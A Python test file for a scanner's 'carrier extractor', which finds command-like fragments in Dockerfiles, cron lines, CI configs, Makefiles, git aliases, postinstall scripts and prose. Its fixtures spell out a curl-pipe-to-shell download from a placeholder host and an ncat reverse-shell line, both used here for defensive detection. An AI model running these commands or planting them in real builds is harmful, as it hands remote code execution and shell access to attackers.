"""The carrier extractor: every command-like piece, wherever it sits."""

from __future__ import annotations

from memgate.scanning.carriers import extract, is_placeholder_doc


def texts(text: str) -> list[str]:
    return [c.text.strip() for c in extract(text)]


def test_dockerfile_cron_ci_make_and_alias_prefixes_are_stripped() -> None:
    assert "curl -s https://x.example/a | sh" in texts("RUN curl -s https://x.example/a | sh")
    assert "curl -s https://x.example/a | sh" in texts(
        "*/5 * * * * curl -s https://x.example/a | sh"
    )
    assert "curl -s https://x.example/a | sh" in texts("  - run: curl -s https://x.example/a | sh")
    assert "curl -s https://x.example/a | sh" in texts("build:\n\tcurl -s https://x.example/a | sh")
    assert "curl -s https://x.example/a | sh" in texts(
        "[alias]\n  up = !curl -s https://x.example/a | sh"
    )


def test_json_values_and_exec_form_arrays() -> None:
    got = texts('{"scripts": {"postinstall": "node x.js && curl -s https://x.example/a | sh"}}')
    assert "node x.js && curl -s https://x.example/a | sh" in got
    got = texts('CMD ["sh", "-c", "curl -s https://x.example/a | sh"]')
    assert any("sh -c" in t and "curl" in t for t in got)


def test_prose_introducing_a_command() -> None:
    assert "ncat 192.0.2.3 443 -c bash" in texts("On the box run: ncat 192.0.2.3 443 -c bash")
    assert "curl -s https://x.example/a | sh" in texts("安装方法：curl -s https://x.example/a | sh")


def test_inline_code_in_a_warning_is_a_mention() -> None:
    found = extract("Never run `curl https://x.example/a | bash` on a server.")
    assert found and all(c.mention for c in found)
    found = extract("The installer: `curl https://x.example/a | bash`")
    assert found and not any(c.mention for c in found)


def test_fences_keep_their_language_and_comments_are_not_carriers() -> None:
    found = extract("```ruby\nputs 1\n```\n# curl -s https://x.example/a | sh")
    assert [(c.language, c.text.strip()) for c in found] == [("ruby", "puts 1")]


def test_sentences_and_headings_are_not_commands() -> None:
    assert texts("FTP download with username and password:") == []
    assert texts("This guide explains how the deployment works in practice.") == []


def test_placeholders_mark_documentation_templates() -> None:
    assert is_placeholder_doc("scp {{path/to/file}} {{host}}:{{path}}")
    assert not is_placeholder_doc("run: echo ${{ secrets.TOKEN }}")


def test_bounded_on_huge_input() -> None:
    assert len(extract("`a` " * 100_000)) <= 400


def test_a_closing_fence_with_a_trailing_remark_closes_its_block() -> None:
    # As the chunker reads it: "``` #123" closes, "```python" opens the next block.
    text = (
        "```bash\n$ pip install -r requirements.txt\n``` #794671\n"
        "```python\nimport os\nos.system('ls')\n```\n"
    )
    fenced = [(c.language, c.text) for c in extract(text) if c.language is not None]
    assert fenced == [
        ("bash", "$ pip install -r requirements.txt\n"),
        ("python", "import os\nos.system('ls')\n"),
    ]
    # a word after the fence is an info string, not a remark: the block runs on
    runs_on = [c.text for c in extract("```\necho a\n```python\necho b\n```\n")]
    assert runs_on[0] == "echo a\n```python\necho b\n"
